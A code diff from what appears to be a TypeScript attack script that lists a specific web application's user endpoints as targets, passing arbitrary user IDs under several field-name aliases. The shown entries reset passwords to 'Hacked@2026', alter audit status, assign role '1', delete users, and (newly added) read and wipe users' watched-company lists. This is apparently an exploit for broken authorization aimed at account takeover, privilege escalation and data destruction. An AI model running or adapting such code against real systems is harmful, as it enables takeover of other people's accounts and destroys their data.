@@ -199,6 +199,8 @@ const targets: Target[] = [
       { endpoint: 'userModifyPwd', params: (id) => ({ ...idAliases(id, 'UserID', 'userID', 'userId'), userPwd: 'Hacked@2026', password: 'Hacked@2026', newPwd: 'Hacked@2026' }) },
       { endpoint: 'userAudit', params: (id) => ({ ...idAliases(id, 'UserID', 'userID', 'userId'), auditStatus: 3, audit_status: 3, AuditStatus: 3 }) },
       { endpoint: 'userUpdateRole', params: (id) => ({ ...idAliases(id, 'UserID', 'userID', 'userId'), roleIds: '1', role_ids: '1', JiaoSeIDs: '1' }) },
+      { endpoint: 'userWatchedCompanies', params: (id) => idAliases(id, 'UserID', 'userID', 'userId') },
+      { endpoint: 'userUpdateWatchedCompanies', params: (id) => ({ ...idAliases(id, 'UserID', 'userID', 'userId'), companyIds: '[]' }) },
       { endpoint: 'userDelete', params: (id) => idAliases(id, 'UserID', 'userID', 'userId') },
     ],
   },
